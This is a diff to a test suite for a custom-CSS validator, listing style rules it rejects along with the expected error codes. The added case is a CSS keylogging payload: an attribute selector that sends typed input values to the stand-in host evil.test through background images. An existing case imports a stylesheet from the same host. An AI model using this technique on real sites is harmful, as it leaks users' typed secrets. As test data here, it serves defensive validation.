@@ -32,6 +32,11 @@ describe("an author's custom CSS", () => {
     ["a nesting selector", "& p { color: red }", "style.css.selector"],
     ["the root's following siblings", "~ p { color: red }", "style.css.selector"],
     ["the root's next sibling", "+ div { color: red }", "style.css.selector"],
+    [
+      "reading typed values out through pictures",
+      'input[value^="a"] { background: url(https://evil.test/a.png) }',
+      "style.css.selector",
+    ],
     ["a nested rule", "p { a { color: red } }", "style.css.invalid"],
     ["@import", '@import "https://evil.test/x.css";', "style.css.forbidden"],
     [
